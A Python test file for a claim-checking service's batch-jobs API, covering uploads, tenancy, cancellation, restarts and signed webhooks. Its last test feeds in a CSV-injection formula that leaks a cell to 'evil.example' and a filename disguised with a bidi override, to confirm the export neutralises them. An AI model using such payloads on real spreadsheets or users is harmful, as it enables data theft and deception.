"""Batch jobs through the real app in-process: the SQLite default, the runner, formats, tenancy,
cancel, failures, restarts and the signed callback (a real HTTP receiver on 127.0.0.1)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import time
from http.server import BaseHTTPRequestHandler
from typing import Any

from jobs.webhook import verify as verify_signature
from tests.conftest import app_client, make_settings
from tests.fakes import loopback

KEY_A = "ck_jobs_key_a_1f2e3d4c5b6a"
KEY_B = "ck_jobs_key_b_9a8b7c6d5e4f"


class Gate:
    """Wraps the app's real verifier: claims with FAIL raise, claims with WAIT wait for `open`;
    every call is counted. The rest of the verification is the real one."""

    def __init__(self, app) -> None:
        verifier = app.state.runtime.agent.verifier
        self.real = verifier.verify
        self.calls: list[str] = []
        self.open = asyncio.Event()
        self.entered = asyncio.Event()
        verifier.verify = self.verify
        app.state.jobs.runner.retry_delay_s = 0.01

    async def verify(self, claim: str, *args: Any, **kwargs: Any):
        self.calls.append(claim)
        if "FAIL" in claim:
            raise RuntimeError(f"the fake judge broke on {claim!r}")
        if "WAIT" in claim:
            self.entered.set()
            await self.open.wait()
        return await self.real(claim, *args, **kwargs)


async def wait_for(client, job_id: str, predicate, headers=None, within_s: float = 60.0) -> dict:
    deadline = time.monotonic() + within_s
    while True:
        response = await client.get(f"/api/jobs/{job_id}", headers=headers)
        assert response.status_code == 200, response.text
        body = response.json()
        if predicate(body):
            return body
        assert time.monotonic() < deadline, f"job never reached the state: {body}"
        await asyncio.sleep(0.05)


def ended(body: dict) -> bool:
    return body["state"] in {"done", "failed", "cancelled"}


async def results(client, job_id: str, headers=None, **params) -> list[dict]:
    response = await client.get(f"/api/jobs/{job_id}/results", params=params, headers=headers)
    assert response.status_code == 200, response.text
    return [json.loads(line) for line in response.text.splitlines()]


async def test_a_job_answers_every_item_in_order_like_api_verify(tmp_path, minilm):
    claims = [
        "The Earth is flat",
        "Apollo 11 landed on the Moon in 1969",
        "Water boils at 100 degrees Celsius at sea level",
    ]
    items = [{"id": f"c{n}", "claim": claim} for n, claim in enumerate(claims)]
    items.insert(
        1, {"id": "empty", "claim": "   "}
    )  # refused like /api/verify refuses it; not fatal
    async with app_client(make_settings(tmp_path), embedder=minilm) as client:
        created = await client.post(
            "/api/jobs", json={"items": items, "options": {"web_search": False}}
        )
        assert created.status_code == 202, created.text
        body = created.json()
        assert body.keys() >= {
            "id",
            "state",
            "total",
            "counts",
            "verdicts",
            "created_at",
            "updated_at",
            "eta_s",
        }
        assert body["total"] == 4 and body["counts"]["failed"] == 1
        assert (
            body["rejected"][0]["id"] == "empty" and "invalid claim" in body["rejected"][0]["error"]
        )
        assert created.headers["location"] == f"/api/jobs/{body['id']}"
        done = await wait_for(client, body["id"], ended)
        direct = (
            await client.post("/api/verify", json={"claim": claims[0], "web_search": False})
        ).json()

        rows = await results(client, body["id"])
        page1 = await client.get(f"/api/jobs/{body['id']}/results", params={"limit": 2})
        page2 = await client.get(
            f"/api/jobs/{body['id']}/results",
            params={"limit": 2, "cursor": page1.headers["x-next-cursor"]},
        )
        table = (await client.get(f"/api/jobs/{body['id']}/results", params={"format": "csv"})).text
        review = (
            await client.get(f"/api/jobs/{body['id']}/results", params={"format": "claimreview"})
        ).json()

    assert done["state"] == "done"
    assert done["counts"] == {"queued": 0, "running": 0, "done": 3, "failed": 1, "cancelled": 0}
    assert sum(done["verdicts"].values()) == 3 and done["progress"] == 1.0 and done["eta_s"] is None
    assert [r["id"] for r in rows] == ["c0", "empty", "c1", "c2"]
    assert all(r.keys() == {"id", "claim", "status", "result", "error"} for r in rows)
    assert rows[1]["status"] == "failed" and rows[1]["result"] is None
    first = rows[0]["result"]
    assert rows[0]["status"] == "done" and first["verdict"] == direct["verdict"]
    assert [e["source"] for e in first["evidence"]] == [e["source"] for e in direct["evidence"]]
    assert "nasa.gov" in {e["domain"] for e in first["evidence"]}

    assert [json.loads(line)["id"] for line in page1.text.splitlines()] == ["c0", "empty"]
    assert [json.loads(line)["id"] for line in page2.text.splitlines()] == ["c1", "c2"]
    assert "x-next-cursor" not in page2.headers

    table_rows = list(csv.DictReader(io.StringIO(table)))
    assert [r["id"] for r in table_rows] == ["c0", "empty", "c1", "c2"]
    assert table_rows[0]["verdict"] == first["verdict"] and table_rows[1]["error"].startswith(
        "invalid claim"
    )
    assert set(table_rows[0]["evidence_urls"].split()) == {
        e["source"] for e in first["evidence"] if e["source"].startswith("http")
    }

    reviews = review["@graph"]
    assert review["@context"] == "https://schema.org" and len(reviews) == 3
    assert reviews[0]["@type"] == "ClaimReview" and reviews[0]["claimReviewed"] == claims[0]
    assert reviews[0]["author"]["name"] == "claimcheck"
    assert reviews[0]["reviewRating"]["alternateName"] == first["verdict"]
    assert {c["url"] for c in reviews[0]["citation"]} == {
        e["source"] for e in first["evidence"] if e["source"].startswith("http")
    }


async def test_uploads_duplicates_and_limits(tmp_path, minilm):
    settings = make_settings(tmp_path, AUTO_SEED=False, JOB_MAX_ITEMS=3, JOBS_MAX_ITEMS_PER_KEY=5)
    async with app_client(settings, embedder=minilm) as client:
        upload = await client.post(
            "/api/jobs?web_search=false",
            content="id,claim\nx,Paris is in France\n,Rome is in Italy\n",
            headers={"content-type": "text/csv"},
        )
        lines = '{"claim": "Berlin is in Germany"}\n{"id": "z", "text": "Madrid is in Spain"}\n'
        jsonl = await client.post(
            "/api/jobs", content=lines, headers={"content-type": "application/x-ndjson"}
        )
        duplicate = await client.post(
            "/api/jobs", json={"items": [{"id": "a", "claim": "one"}, {"id": "a", "claim": "two"}]}
        )
        too_many = await client.post(
            "/api/jobs", json={"items": [{"claim": f"claim {n}"} for n in range(4)]}
        )
        no_claim_column = await client.post(
            "/api/jobs", content="id,words\n1,x\n", headers={"content-type": "text/csv"}
        )
        bad_option = await client.post(
            "/api/jobs", json={"items": [{"claim": "x y z"}], "options": {"grounding": "sometimes"}}
        )
        for job in (upload.json(), jsonl.json()):
            await wait_for(client, job["id"], ended)
        over_quota = await client.post(
            "/api/jobs", json={"items": [{"claim": f"claim {n}"} for n in range(3)]}
        )
        rows = await results(client, upload.json()["id"])
        rows_jsonl = await results(client, jsonl.json()["id"])
    assert upload.status_code == 202 and upload.json()["total"] == 2
    assert [r["id"] for r in rows] == ["x", "2"] and rows[1]["claim"] == "Rome is in Italy"
    assert all(
        r["result"]["search"]["tier_used"] != "web" for r in rows
    )  # web_search=false applied
    assert jsonl.status_code == 202 and [r["id"] for r in rows_jsonl] == ["1", "z"]
    assert duplicate.status_code == 422 and duplicate.json()["detail"][0]["type"] == "duplicate_id"
    assert too_many.status_code == 422
    assert no_claim_column.status_code == 400
    assert bad_option.status_code == 422 and bad_option.json()["detail"][0]["loc"][:3] == [
        "body",
        "options",
        "grounding",
    ]
    # the finished jobs no longer count: 3 new items fit under 5 … a queue of 6 would not
    assert over_quota.status_code == 202


async def test_another_key_cannot_see_list_cancel_or_download_a_job(tmp_path, minilm):
    settings = make_settings(
        tmp_path,
        AUTO_SEED=False,
        API_KEYS=f"{KEY_A},{KEY_B}",
        RATE_LIMIT="1000/minute",
        JOBS_MAX_UNFINISHED_PER_KEY=1,
    )
    a, b = {"X-API-Key": KEY_A}, {"X-API-Key": KEY_B}
    async with app_client(settings, embedder=minilm) as client:
        gate = Gate(client.app)
        job = (
            await client.post(
                "/api/jobs", json={"items": [{"claim": "WAIT Paris is in France"}]}, headers=a
            )
        ).json()
        second = await client.post(
            "/api/jobs", json={"items": [{"claim": "Rome is in Italy"}]}, headers=a
        )
        other = [
            await client.get(f"/api/jobs/{job['id']}", headers=b),
            await client.get(f"/api/jobs/{job['id']}/events", headers=b),
            await client.get(f"/api/jobs/{job['id']}/results", headers=b),
            await client.delete(f"/api/jobs/{job['id']}", headers=b),
        ]
        listed_b = (await client.get("/api/jobs", headers=b)).json()
        listed_a = (await client.get("/api/jobs", headers=a)).json()
        anonymous = await client.get(f"/api/jobs/{job['id']}")
        b_may_submit = await client.post(
            "/api/jobs", json={"items": [{"claim": "Rome is in Italy"}]}, headers=b
        )
        gate.open.set()
        final = await wait_for(client, job["id"], ended, headers=a)
    assert [r.status_code for r in other] == [404, 404, 404, 404]
    assert all(r.json()["error"] == "not_found" for r in other)
    assert listed_b == {"jobs": []}
    assert [j["id"] for j in listed_a["jobs"]] == [job["id"]]
    assert anonymous.status_code == 401
    assert second.status_code == 429 and second.json()["error"] == "too_many_jobs"
    assert b_may_submit.status_code == 202
    assert final["state"] == "done"  # B's DELETE did not cancel it


async def test_cancel_stops_new_items_and_a_failing_item_is_recorded(tmp_path, minilm):
    settings = make_settings(tmp_path, AUTO_SEED=False, JOB_CONCURRENCY=1)
    async with app_client(settings, embedder=minilm) as client:
        gate = Gate(client.app)
        items = [{"id": f"w{n}", "claim": f"WAIT claim number {n}"} for n in range(5)]
        job = (await client.post("/api/jobs", json={"items": items})).json()
        await asyncio.wait_for(gate.entered.wait(), 30)
        started = time.monotonic()
        cancelled = await client.delete(f"/api/jobs/{job['id']}")
        answered_in = time.monotonic() - started
        gate.open.set()
        await wait_for(client, job["id"], lambda b: b["counts"]["running"] == 0)
        rows = await results(client, job["id"])

        failing = (
            await client.post(
                "/api/jobs",
                json={
                    "items": [
                        {"id": "ok1", "claim": "Paris is in France"},
                        {"id": "bad", "claim": "FAIL this one"},
                        {"id": "ok2", "claim": "Rome is in Italy"},
                    ]
                },
            )
        ).json()
        final = await wait_for(client, failing["id"], ended)
        failing_rows = await results(client, failing["id"])
        again = await client.delete(f"/api/jobs/{failing['id']}")
    assert cancelled.status_code == 200 and cancelled.json()["state"] == "cancelled"
    assert answered_in < 1.0
    assert cancelled.json()["counts"]["cancelled"] == 4
    assert [c for c in gate.calls if c.startswith("WAIT")] == [
        "WAIT claim number 0"
    ]  # no new item started
    assert [r["status"] for r in rows] == [
        "done",
        "cancelled",
        "cancelled",
        "cancelled",
        "cancelled",
    ]

    assert (
        final["state"] == "done" and final["counts"]["done"] == 2 and final["counts"]["failed"] == 1
    )
    assert gate.calls.count("FAIL this one") == 3
    bad = failing_rows[1]
    assert (
        bad["status"] == "failed"
        and "the fake judge broke" in bad["error"]
        and bad["result"] is None
    )
    assert again.json()["state"] == "done"  # cancelling a finished job changes nothing


async def test_the_sqlite_default_survives_a_restart_mid_job(tmp_path, minilm):
    settings = make_settings(tmp_path, AUTO_SEED=False, JOB_CONCURRENCY=1)
    items = [{"id": f"r{n}", "claim": f"WAIT restart claim {n}"} for n in range(3)]
    async with app_client(settings, embedder=minilm) as client:
        gate = Gate(client.app)
        job = (await client.post("/api/jobs", json={"items": items})).json()
        await asyncio.wait_for(gate.entered.wait(), 30)
        before = (await client.get(f"/api/jobs/{job['id']}")).json()
    # the process is gone with r0 running; a new one on the same settings finishes the job
    assert (tmp_path / "kb-jobs.sqlite3").is_file()
    async with app_client(settings, embedder=minilm) as client:
        assert client.app.state.jobs.runner.requeued_at_start == 1
        final = await wait_for(client, job["id"], ended)
        rows = await results(client, job["id"])
    assert before["counts"]["running"] == 1 and before["state"] == "running"
    assert final["state"] == "done" and final["counts"]["done"] == 3
    assert [r["id"] for r in rows] == ["r0", "r1", "r2"] and all(
        r["status"] == "done" for r in rows
    )


async def test_the_same_restart_on_postgresql(tmp_path, minilm, postgres_url):
    """The in-process runner on a real PostgreSQL (DATABASE_URL): the same job, the same restart."""
    settings = make_settings(
        tmp_path, AUTO_SEED=False, JOB_CONCURRENCY=1, DATABASE_URL=postgres_url
    )
    items = [{"id": f"p{n}", "claim": f"WAIT postgres claim {n}"} for n in range(3)]
    async with app_client(settings, embedder=minilm) as client:
        assert client.app.state.jobs.store.backend == "postgresql"
        gate = Gate(client.app)
        job = (await client.post("/api/jobs", json={"items": items})).json()
        await asyncio.wait_for(gate.entered.wait(), 30)
    async with app_client(settings, embedder=minilm) as client:
        assert client.app.state.jobs.runner.requeued_at_start == 1
        final = await wait_for(client, job["id"], ended)
        rows = await results(client, job["id"])
    assert not (tmp_path / "kb-jobs.sqlite3").exists()
    assert final["state"] == "done" and final["counts"]["done"] == 3
    assert [r["id"] for r in rows] == ["p0", "p1", "p2"] and all(
        r["status"] == "done" for r in rows
    )


class Receiver:
    """A webhook endpoint on 127.0.0.1 that records what arrives; the first `fail_first` answer 500."""

    def __init__(self, fail_first: int = 0) -> None:
        self.calls: list[tuple[dict[str, str], bytes]] = []
        self.fail_first = fail_first
        self.got = threading.Event()

    def __enter__(self) -> Receiver:
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                receiver.calls.append(({k.lower(): v for k, v in self.headers.items()}, body))
                status = 500 if len(receiver.calls) <= receiver.fail_first else 204
                self.send_response(status)
                self.send_header("content-length", "0")
                self.end_headers()
                if status == 204:
                    receiver.got.set()

        self.server = loopback.start(Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        return self

    def __exit__(self, *exc: object) -> None:
        loopback.stop(self.server)


async def test_the_callback_is_signed_retried_and_sent_once(tmp_path, minilm):
    secret = "whsec_" + "c2VjcmV0LWZvci10ZXN0cy1vbmx5LTEyMzQ1Njc4"
    with Receiver(fail_first=1) as receiver:
        refused = make_settings(tmp_path / "refused", AUTO_SEED=False)
        async with app_client(refused, embedder=minilm) as client:
            blocked = await client.post(
                "/api/jobs", json={"items": [{"claim": "x y z"}], "callback_url": receiver.url}
            )
        settings = make_settings(
            tmp_path, AUTO_SEED=False, WEBHOOK_SECRET=secret, FETCH_ALLOW_HOSTS="127.0.0.1:*"
        )
        async with app_client(settings, embedder=minilm) as client:
            client.app.state.jobs.webhooks.delays_s = (0.0, 0.05, 0.05)
            job = (
                await client.post(
                    "/api/jobs",
                    json={"items": [{"claim": "Paris is in France"}], "callback_url": receiver.url},
                )
            ).json()
            assert await asyncio.to_thread(receiver.got.wait, 30)
            final = await wait_for(client, job["id"], lambda b: b["callback"] == "sent")
    assert blocked.status_code == 422 and blocked.json()["detail"][0]["type"] == "callback_refused"
    assert len(receiver.calls) == 2  # one 500, then delivered; not again
    headers, body = receiver.calls[-1]
    assert verify_signature(secret, headers, body)
    assert not verify_signature(secret, headers, body.replace(b"done", b"DONE"))
    payload = json.loads(body)
    assert payload["type"] == "job.done" and payload["data"]["id"] == job["id"]
    assert payload["data"]["counts"]["done"] == 1 and final["state"] == "done"


async def test_unknown_jobs_are_404(tmp_path, minilm):
    async with app_client(make_settings(tmp_path, AUTO_SEED=False), embedder=minilm) as client:
        answers = [
            await client.get(path)
            for path in (
                "/api/jobs/job_nope",
                "/api/jobs/job_nope/results",
                "/api/jobs/job_nope/events",
            )
        ]
        answers.append(await client.delete("/api/jobs/job_nope"))
    assert [a.status_code for a in answers] == [404] * 4
    assert all(a.json()["error"] == "not_found" for a in answers)


async def test_a_queued_job_with_no_live_worker_says_so_in_its_status_and_in_health(
    tmp_path, minilm, redis_server
):
    """Issue 37: a job on the Redis queue with no `claimcheck worker` alive used to stay `queued` with
    no hint. Within 10 s its status and /api/health name the cause and the command that fixes it."""
    settings = make_settings(
        tmp_path,
        AUTO_SEED=False,
        REDIS_URL=redis_server.url,
        DATABASE_URL=f"sqlite:///{tmp_path / 'shared-jobs.sqlite3'}",
    )
    assert settings.job_queue == "redis"
    async with app_client(settings, embedder=minilm) as client:
        created = await client.post(
            "/api/jobs", json={"items": [{"id": "a", "claim": "The Earth is flat"}]}
        )
        assert created.status_code == 202, created.text
        started = time.monotonic()
        body = await wait_for(client, created.json()["id"], lambda b: b["notice"], within_s=10)
        elapsed = time.monotonic() - started
        health = (await client.get("/api/health")).json()["components"]["jobs"]
    assert body["state"] == "queued" and body["counts"]["queued"] == 1
    assert (
        "no `claimcheck worker` is alive" in body["notice"]
        and "`claimcheck worker`" in body["notice"]
    )
    assert "DATABASE_URL" in body["notice"]
    assert health["workers"] == 0 and health["notice"] == body["notice"]
    assert elapsed < 10, elapsed


async def test_redis_without_a_shared_database_runs_jobs_in_the_api_and_says_why(
    tmp_path, minilm, redis_server
):
    """The no-docker recipe of docs/deploy.md (REDIS_URL, no DATABASE_URL, no worker) left jobs queued
    forever: each process had its own SQLite file, so no worker could ever see them. Now `auto` runs
    them in the API and health says why; JOB_QUEUE=redis without DATABASE_URL is refused."""
    import pytest
    from pydantic import ValidationError

    settings = make_settings(tmp_path, AUTO_SEED=False, REDIS_URL=redis_server.url)
    assert settings.job_queue == "inprocess"
    async with app_client(settings, embedder=minilm) as client:
        created = await client.post(
            "/api/jobs", json={"items": [{"id": "a", "claim": "The Earth is flat"}]}
        )
        body = await wait_for(client, created.json()["id"], ended)
        health = (await client.get("/api/health")).json()["components"]["jobs"]
    assert body["state"] == "done" and body["notice"] is None
    assert health["queue"] == "in-process" and "DATABASE_URL" in health["reason"]
    with pytest.raises(ValidationError, match="JOB_QUEUE=redis needs DATABASE_URL"):
        make_settings(tmp_path, REDIS_URL=redis_server.url, JOB_QUEUE="redis")


async def test_csv_cells_never_open_as_formulas_and_refused_items_are_short_and_purged(
    tmp_path, minilm
):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    settings = make_settings(tmp_path, AUTO_SEED=False)
    async with app_client(settings, embedder=minilm) as client:
        created = await client.post(
            "/api/jobs",
            json={
                "options": {"web_search": False},
                "items": [
                    {"id": "+1", "claim": hostile},
                    {"id": "@x", "claim": "-5 degrees is cold \u202egnp.exe"},
                    {"id": "big", "claim": "x" * 1_000_000},
                ],
            },
        )
        assert created.status_code == 202, created.text
        job_id = created.json()["id"]
        assert created.json()["rejected"][0]["id"] == "big"
        await wait_for(client, job_id, ended)
        exported = await client.get(f"/api/jobs/{job_id}/results", params={"format": "csv"})
        rows = await results(client, job_id)
        store = client.app.state.jobs.store
        kept = await store.purge_finished(time.time() - 3600)  # ended just now: not old enough
        purged = await store.purge_finished(time.time() + 1)
        gone = await client.get(f"/api/jobs/{job_id}")
    table = list(csv.reader(io.StringIO(exported.text)))
    cells = {row[0]: row for row in table[1:]}
    assert cells["'+1"][1] == "'" + hostile  # text in a spreadsheet, never a formula
    assert (
        cells["'@x"][1] == "'-5 degrees is cold \\u202egnp.exe"
    )  # the bidi override shown, not obeyed
    big = next(r for r in rows if r["id"] == "big")
    assert big["status"] == "failed" and len(big["claim"]) == 500
    assert (kept, purged) == (0, 1) and gone.status_code == 404
    async with store.engine.connect() as connection:
        from sqlalchemy import func, select

        from jobs.store import items_table

        left = (
            await connection.execute(
                select(func.count()).select_from(items_table).where(items_table.c.job_id == job_id)
            )
        ).scalar_one()
    assert left == 0
